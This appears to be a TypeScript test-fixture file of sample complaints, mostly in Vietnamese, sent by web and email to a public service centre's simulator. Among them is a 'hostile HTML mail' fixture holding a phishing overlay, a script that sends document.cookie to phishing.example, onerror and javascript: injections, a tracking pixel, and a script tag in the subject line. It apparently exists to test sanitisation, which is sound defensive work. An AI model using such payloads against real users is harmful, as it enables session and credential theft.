import type { SimulatedChannel } from '../../src/contract/simulator.ts';

/** A text ready to be sent, such as people really write. */
export type Sample = {
  readonly id: string;
  readonly channel: SimulatedChannel;
  readonly name: { readonly vi: string; readonly en: string };
  readonly subject?: string;
  readonly text: string;
  readonly html?: string;
  readonly automatic?: boolean;
};

const hostileHtml = `<div style="position:fixed;inset:0;background:#fff;z-index:9999">
<h1>Phiên làm việc đã hết hạn</h1>
<form action="https://phishing.example/login"><input name="password" placeholder="Mật khẩu"><button>Đăng nhập</button></form></div>
<script>document.title = 'hacked'; fetch('https://phishing.example/' + document.cookie)</script>
<img src="x" onerror="document.title = 'hacked'">
<img src="https://tracker.example/open.gif?id=1" width="1" height="1">
<a href="javascript:document.title = 'hacked'">Xem công văn</a>
<style>body { display: none }</style>
<p>Kính gửi trung tâm, đề nghị xem công văn kèm theo về việc đèn đường hỏng tại thôn Đông.</p>`;

const samples: readonly Sample[] = [
  {
    id: 'flood',
    channel: 'web',
    name: { vi: 'Ngập đường Trần Phú', en: 'Flooded street' },
    text: 'Đường Trần Phú đoạn trước cổng chợ ngập gần nửa mét từ 5 giờ sáng, xe tải không vào được kho. Năm nay đã ngập lần thứ ba, đề nghị cho thông cống và trả lời dân khi nào làm xong.',
  },
  {
    id: 'power',
    channel: 'web',
    name: { vi: 'Mất điện khu công nghiệp', en: 'Power cut in an industrial park' },
    text: 'Khu công nghiệp Quế Võ mất điện từ 13h30 không báo trước, hai dây chuyền ép nhựa của chúng tôi dừng, hỏng khoảng 400 kg nguyên liệu. Gọi tổng đài điện lực không ai nhấc máy. Bao giờ có điện lại?',
  },
  {
    id: 'refund',
    channel: 'web',
    name: { vi: 'Hoàn thuế chậm', en: 'Late tax refund' },
    text: 'Công ty nộp hồ sơ hoàn thuế GTGT hàng xuất khẩu từ tháng 7, đến nay hơn 90 ngày chưa có quyết định. Hỏi cán bộ thì nói chờ. Đề nghị cho biết hồ sơ đang ở khâu nào và ngày trả kết quả.',
  },
  {
    id: 'rubbish',
    channel: 'web',
    name: { vi: 'Rác để lâu ngày', en: 'Rubbish left for days' },
    text: 'Bãi tập kết rác đầu ngõ 12 đường Lý Thái Tổ, phường Võ Cường ba hôm nay không ai thu gom, nước rỉ ra đường, mùi hôi vào tận trường mầm non bên cạnh. Có ảnh kèm theo.',
  },
  {
    id: 'no-diacritics',
    channel: 'web',
    name: { vi: 'Không dấu, như tin nhắn', en: 'Without diacritics, like an SMS' },
    text: 'chao anh chi den duong thon dong xa yen phong hong 2 tuan nay toi om, tre con di hoc ve nguy hiem lam, nho trung tam bao dien luc sua giup. cam on',
  },
  {
    id: 'conduct',
    channel: 'web',
    name: { vi: 'Thái độ cán bộ', en: 'Conduct of an official' },
    text: 'Tôi đi chứng thực giấy tờ ở bộ phận một cửa phường ba lần, lần nào cũng bị bảo về bổ sung thứ khác, hôm qua cán bộ còn nói to trước mặt mọi người. Tôi không muốn bị lộ tên vì còn phải làm nhiều giấy tờ ở đó.',
  },
  { id: 'empty', channel: 'web', name: { vi: 'Trống (sẽ bị từ chối)', en: 'Empty (will be refused)' }, text: '' },
  {
    id: 'mail-flood',
    channel: 'email',
    name: { vi: 'Ngập đường, có ảnh', en: 'Flooded street, with a photo' },
    subject: 'Phản ánh ngập đường Trần Phú',
    text: 'Kính gửi Trung tâm 1022,\n\nĐường Trần Phú lại ngập từ sáng sớm, xe hàng của chúng tôi không vào được kho, khách hủy đơn. Đề nghị cơ quan thoát nước kiểm tra cống đoạn ngã tư.\n\nTôi gửi kèm ảnh chụp lúc 6 giờ.\n\nTrân trọng,\nNguyễn Thị Lan\n0912 345 601',
  },
  {
    id: 'mail-refund',
    channel: 'email',
    name: { vi: 'Doanh nghiệp hỏi hoàn thuế', en: 'A firm asks about its tax refund' },
    subject: 'V/v hồ sơ hoàn thuế GTGT quá hạn',
    text: 'Kính gửi Quý Trung tâm,\n\nCông ty TNHH Cơ khí Thịnh Phát nộp hồ sơ hoàn thuế giá trị gia tăng ngày 14/7. Đến nay đã quá thời hạn giải quyết nhưng chúng tôi chưa nhận được thông báo nào.\n\nĐề nghị Quý Trung tâm chuyển cơ quan thuế cho biết: hồ sơ thiếu gì, ai xử lý, ngày nào có kết quả.\n\nTrân trọng.',
  },
  {
    id: 'mail-investor',
    channel: 'email',
    name: { vi: 'Nhà đầu tư, tiếng Anh', en: 'Foreign investor, in English' },
    subject: 'Work permits for three engineers – no answer since September',
    text: 'Dear Sir or Madam,\n\nWe are building a LED components plant in Que Vo industrial park. On 12 September we applied for work permits for three engineers. The online portal still says "processing" and nobody answers our calls.\n\nThe equipment arrives on 5 December and we cannot install it without them. Could you tell us which office has the file and what is missing?\n\nKind regards,\nEmma Larsen\nNordic Light A/S',
  },
  {
    id: 'mail-no-diacritics',
    channel: 'email',
    name: { vi: 'Không dấu, viết vội', en: 'Without diacritics, in haste' },
    subject: 'nuoc may ban qua',
    text: 'nuoc may nha toi o pho moi 4 hom nay vang khe co mui tanh, ca day pho deu bi, khong dam nau an. de nghi cong ty nuoc kiem tra gap\n\nGửi từ iPhone của tôi',
  },
  {
    id: 'mail-away',
    channel: 'email',
    name: { vi: 'Trả lời tự động khi vắng mặt', en: 'Out-of-office answer' },
    subject: 'Trả lời tự động: Vắng mặt đến 30/11',
    text: 'Tôi đi công tác đến hết ngày 30/11 và không đọc thư thường xuyên. Việc gấp xin gọi văn phòng. Thư này được gửi tự động.',
    automatic: true,
  },
  {
    id: 'mail-hostile',
    channel: 'email',
    name: { vi: 'Thư HTML độc hại', en: 'Hostile HTML mail' },
    subject: 'Công văn khẩn <script>alert(1)</script>',
    text: 'Kính gửi trung tâm, đề nghị xem công văn kèm theo về việc đèn đường hỏng tại thôn Đông.',
    html: hostileHtml,
  },
];

export function samplesOf(channel: SimulatedChannel): readonly Sample[] {
  return samples.filter((sample) => sample.channel === channel);
}
